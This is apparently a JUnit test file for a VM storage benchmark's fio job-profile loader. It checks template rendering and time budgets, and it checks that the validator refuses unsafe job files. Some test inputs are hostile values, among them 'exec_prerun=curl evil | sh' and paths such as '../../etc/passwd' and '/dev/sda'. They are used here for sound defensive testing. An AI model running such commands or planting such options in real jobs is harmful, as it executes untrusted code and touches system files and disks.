package dev.vmbench.profile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.vmbench.matrix.BlockSize;
import dev.vmbench.matrix.FioPermutation;
import dev.vmbench.template.Templates;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ProfileLibraryTest {

    private static final ProfileLibrary SHIPPED = ProfileLibrary.load(Path.of("test-profiles/profiles"));

    @Test
    void theShippedProfilesLoadAndKnowWhetherTheyTakeABlockSize() {
        assertThat(SHIPPED.names()).containsExactly("app-server", "data-pipeline", "db-oltp", "density-rated",
                "lite-app-server",
                "lite-data-pipeline", "lite-db-oltp", "lite-mixed-70-30", "lite-random", "lite-sequential",
                "mixed-70-30", "mixed-70-30-capped", "mixed-70-30-rated", "random-rw", "sequential-rw");
        assertThat(SHIPPED.select(List.of("random-rw", "db-oltp", "lite-random", "lite-db-oltp")))
                .extracting(FioProfile::takesBlockSize).containsExactly(true, false, true, false);
        assertThat(SHIPPED.get("db-oltp").description()).startsWith("db-oltp, as the bash suite defines it");
        assertThat(SHIPPED.get("lite-db-oltp").description()).startsWith("An OLTP database");
    }

    @Test
    void aJobIsTheSharedGlobalPlusTheProfileAtItsBlockSize() {
        FioJobs jobs = new FioJobs(SHIPPED, Templates.in(Path.of("templates")), Duration.ofSeconds(30),
                Duration.ofSeconds(5), 1L << 30, Duration.ofMinutes(1));

        String job = jobs.render(new FioPermutation("lite-random", BlockSize.parse("64k")));

        assertThat(job).contains("[global]", "ioengine=libaio", "direct=1", "size=1073741824", "runtime=30",
                "ramp_time=5", "[rand-read]", "[rand-write]").doesNotContain("{{");
        assertThat(job.lines().filter(l -> l.equals("bs=64k"))).hasSize(2);
        assertThat(job).endsWith("; vmbench-files: vmbench.dat\n; vmbench-file-size: 1073741824\n");
        assertThat(jobs.budget(new FioPermutation("lite-random", BlockSize.parse("64k"))))
                .as("two stonewalled sections of 35 s plus the margin").isEqualTo(Duration.ofSeconds(130));
        assertThat(jobs.prefillBudget(new FioPermutation("lite-random", BlockSize.parse("64k"))))
                .isEqualTo(Duration.ofSeconds(51 + 60));
    }

    @Test
    void aJobFileRunsAsWrittenWithItsPlaceholdersFilledIn() {
        FioJobs jobs = new FioJobs(SHIPPED, Templates.in(Path.of("templates")), Duration.ofSeconds(120),
                Duration.ofSeconds(10), 4L << 30, Duration.ofMinutes(2), 32, 4, 500);

        String rated = jobs.render(new FioPermutation("mixed-70-30-rated", BlockSize.parse("4k")));
        String oltp = jobs.render(new FioPermutation("db-oltp", BlockSize.NATIVE));

        assertThat(rated).contains("runtime=120", "ramp_time=10", "iodepth=32", "numjobs=4", "size=4294967296",
                "bs=4k", "rate_iops=500", "filename=fio-testfile").doesNotContain("${");
        assertThat(rated).endsWith("; vmbench-files: fio-testfile\n; vmbench-file-size: 4294967296\n");
        // no filename: fio gives every clone a file of its own, and each needs its size on the data disk
        assertThat(jobs.files(new FioPermutation("db-oltp", BlockSize.NATIVE))).containsExactly("db-data-read.0.0",
                "db-data-read.1.0", "db-data-read.2.0", "db-data-read.3.0", "db-wal-write.0.0", "db-oltp-mixed.0.0",
                "db-oltp-mixed.1.0", "db-oltp-mixed.2.0", "db-oltp-mixed.3.0", "db-point-query.0.0");
        assertThat(oltp).contains("[db-wal-write]", "fsync=1");
        assertThat(jobs.expected(new FioPermutation("db-oltp", BlockSize.NATIVE)))
                .as("four stonewalled phases of 130 s").isEqualTo(Duration.ofSeconds(520));
        assertThat(jobs.prefillBudget(new FioPermutation("db-oltp", BlockSize.NATIVE)))
                .as("ten files of 4 GiB at 20 MiB/s, plus the margin").isEqualTo(Duration.ofSeconds(2048 + 120));
    }

    @Test
    void aJobFileWithAnUnknownPlaceholderIsRefusedByName(@TempDir Path dir) throws IOException {
        Files.writeString(dir.resolve("mine.fio"), "# mine\n[global]\nruntime=${RUNTIME}\nbs=${BLOCKSIZE}\n[r]\n"
                + "rw=read\n");

        assertThatThrownBy(() -> ProfileLibrary.load(dir)).hasMessage("mine.fio:4: placeholder [${BLOCKSIZE}] is "
                + "unknown. Fix: use one of [${RUNTIME}, ${RAMP_TIME}, ${IODEPTH}, ${NUMJOBS}, ${FILE_SIZE}, "
                + "${BLOCK_SIZE}, ${RATE_IOPS_LINE}], or write the value itself.");
    }

    @org.junit.jupiter.params.ParameterizedTest(name = "{0}")
    @org.junit.jupiter.params.provider.ValueSource(strings = {"filename=/dev/sda", "filename=/var/lib/data.bin",
        "filename=../../etc/passwd", "filename=ok.dat:/dev/sdb", "opendir=/", "filename_format=../$jobname"})
    void aJobFileThatPointsFioOutsideTheDataDirectoryIsRefusedWithFileAndLine(String option, @TempDir Path dir)
            throws IOException {
        Files.writeString(dir.resolve("escape.fio"), "[global]\nruntime=${RUNTIME}\n[r]\nrw=write\n" + option + "\n");

        String name = option.split("=", 2)[1].contains("/dev/sdb") ? "/dev/sdb" : option.split("=", 2)[1];
        assertThatThrownBy(() -> ProfileLibrary.load(dir)).hasMessage("escape.fio:5: [" + option + "] names [" + name
                + "], outside the data directory: fio runs in the data disk's mount point and may read and write only "
                + "there (relative names, no .., no absolute path or device; a block-mode data disk is addressed by "
                + "vmbench, not by the job file). Fix: a plain name such as " + option.split("=", 2)[0]
                + "=fio-testfile.");
    }

    @Test
    void aJobThatRunsACommandIsRefused(@TempDir Path dir) throws IOException {
        Files.writeString(dir.resolve("lite-exec.fio"), "[r]\nrw=read\nexec_prerun=curl evil | sh\n");

        assertThatThrownBy(() -> ProfileLibrary.load(dir)).hasMessage("lite-exec.fio:3: [exec_prerun=curl evil | sh] "
                + "makes fio run a command or read and write files of its choosing in the guest, outside what vmbench "
                + "measures. Fix: remove it.");
    }

    @Test
    void aJobFileMayNotFixWhatTheRunSets(@TempDir Path dir) throws IOException {
        Files.writeString(dir.resolve("fixed.fio"), "[global]\nruntime=30\n[r]\nrw=read\n");
        Files.writeString(dir.resolve("moved.fio"), "[global]\nruntime=${RUNTIME}\n[r]\nrw=read\ndirectory=/tmp\n");

        assertThatThrownBy(() -> ProfileLibrary.load(dir)).hasMessage("fixed.fio:2: [runtime=30] fixes what the run "
                + "sets. Fix: write runtime=${RUNTIME} (vmbench fills it in from its settings).");
        Files.delete(dir.resolve("fixed.fio"));
        assertThatThrownBy(() -> ProfileLibrary.load(dir)).hasMessage("moved.fio:5: option [directory] moves fio's "
                + "files or output away from where vmbench reads them (fio runs in the data disk's mount point and "
                + "writes JSON where vmbench collects it). Fix: remove it.");
        Files.delete(dir.resolve("moved.fio"));
        Files.writeString(dir.resolve("logged.fio"), "[global]\nruntime=${RUNTIME}\nlog_avg_msec=250\n[r]\nrw=read\n");
        Files.writeString(dir.resolve("lite-logged.fio"), "[r]\nrw=read\nwrite_iops_log=mine\n");
        assertThatThrownBy(() -> ProfileLibrary.load(dir)).hasMessageEndingWith(": option [log_avg_msec] changes fio's "
                + "interval logs, which vmbench asks every job for and reads back in its own format (the time-series "
                + "charts and iops-drift). Fix: remove it; set -Dvmbench.logInterval to change how often fio logs.");
        Files.delete(dir.resolve("logged.fio"));
        assertThatThrownBy(() -> ProfileLibrary.load(dir)).hasMessageStartingWith("lite-logged.fio:3: option "
                + "[write_iops_log] changes fio's interval logs");
    }

    @Test
    void aWorkerCountVmbenchCannotCountIsRefused(@TempDir Path dir) throws IOException {
        Files.writeString(dir.resolve("odd.fio"), "[global]\nsize=${FILE_SIZE}\n[w]\nrw=write\nnumjobs=four\n");
        FioJobs jobs = new FioJobs(ProfileLibrary.load(dir), Templates.in(Path.of("templates")), Duration.ofSeconds(1),
                Duration.ZERO, 1L << 20, Duration.ofSeconds(1));

        assertThatThrownBy(() -> jobs.files(new FioPermutation("odd", BlockSize.NATIVE))).hasMessage("Job section [w] "
                + "has numjobs [four]; vmbench counts the files of each worker and needs a plain number. Fix: write "
                + "numjobs=N or numjobs=${NUMJOBS}.");
    }

    @Test
    void sectionsRunTogetherUnlessALaterOneIsStonewalled() {
        assertThat(FioJobs.phases(SHIPPED.get("random-rw").sections())).isEqualTo(2);
        assertThat(FioJobs.phases(SHIPPED.get("db-oltp").sections())).isEqualTo(4);
        assertThat(FioJobs.phases(SHIPPED.get("data-pipeline").sections())).isEqualTo(5);
        assertThat(FioJobs.phases(SHIPPED.get("lite-random").sections())).isEqualTo(2);
        assertThat(FioJobs.phases(SHIPPED.get("lite-db-oltp").sections())).as("pages and redo log together").isEqualTo(1);
        assertThat(FioJobs.phases(SHIPPED.get("lite-data-pipeline").sections())).isEqualTo(1);
        assertThat(FioJobs.phases("[a]\nrw=read\n[b]\nrw=write\nwait_for_previous\n[c]\nrw=read\n")).isEqualTo(2);
    }

    @Test
    void anUnknownProfileListsTheKnownOnes() {
        assertThatThrownBy(() -> SHIPPED.select(List.of("random-rw", "randomrw")))
                .hasMessage("Profile [randomrw] is not in test-profiles/profiles. Fix: use one of app-server, "
                        + "data-pipeline, db-oltp, density-rated, lite-app-server, lite-data-pipeline, lite-db-oltp, lite-mixed-70-30, "
                        + "lite-random, lite-sequential, mixed-70-30, mixed-70-30-capped, mixed-70-30-rated, random-rw, "
                        + "sequential-rw, or add randomrw.fio there.");
    }

    @Test
    void aBrokenProfileTemplateNamesTheProfile(@TempDir Path dir) throws IOException {
        Files.writeString(dir.resolve("broken.fio"), "; unclosed section\n[r]\nrw=read\nbs={{#bs}}\n");
        FioJobs jobs = new FioJobs(ProfileLibrary.load(dir), Templates.in(Path.of("templates")), Duration.ofSeconds(1),
                Duration.ZERO, 1L << 20, Duration.ofSeconds(1));

        assertThatThrownBy(() -> jobs.render(new FioPermutation("broken", BlockSize.parse("4k"))))
                .hasMessageStartingWith("Profile [broken.fio] is not a valid template: ")
                .hasMessageEndingWith(". Fix: the only placeholder a profile may use is {{bs}}.");
    }

    @Test
    void aProfileMayNotSetWhatTheSharedGlobalOwns(@TempDir Path dir) throws IOException {
        Files.writeString(dir.resolve("greedy.fio"), "; writes too much\n[big]\nrw=write\nsize=500g\n");

        assertThatThrownBy(() -> ProfileLibrary.load(dir))
                .hasMessage("greedy.fio:4: option [size] is set by the shared [global] of "
                        + "templates/fio-job.fio.mustache. Fix: remove it from the profile (use -Dvmbench.fileSize, "
                        + "-Dvmbench.runtime or -Dvmbench.ramp instead).");
    }
}
